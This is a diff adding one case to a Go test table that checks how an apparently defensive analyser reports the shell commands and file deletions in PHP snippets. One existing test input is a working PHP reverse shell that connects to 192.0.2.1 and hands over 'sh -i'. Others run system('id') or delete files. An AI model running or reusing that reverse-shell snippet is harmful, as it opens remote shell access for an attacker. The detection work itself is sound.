@@ -137,6 +137,7 @@ func TestPHP(t *testing.T) {
 		langtest.Of("called by name", `call_user_func("system", "id"); array_map('unlink', glob("*.log"));`, "shell| id", "rm *.log(glob)"),
 		langtest.Of("loops", `foreach (["a", "b"] as $k => $v) { unlink($v); }`, "rm a", "rm b"),
 		langtest.Of("reverse shell", `$s = fsockopen("192.0.2.1", 99); proc_open("sh -i", array(0 => $s, 1 => $s), $p);`, "listen: shell over a connection 192.0.2.1", "shell| sh -i"),
+		langtest.Of("appended to a list", "<?php $a = ['id']; $a[] = <<<'SH'\n  rm x\n  SH;\nforeach ($a as $s) { passthru($s, $rc); }", "shell| id", "shell|   rm x"),
 		langtest.Of("only what stands in tags", "unlink('a') <?php unlink('b'); ?> unlink('c') <?= `id` ?>", "rm b", "shell| id"),
 		langtest.Of("data", "echo \"unlink('x')\"; // unlink('y')\n# system('z')\n$o->unlink('w');"),
 	)
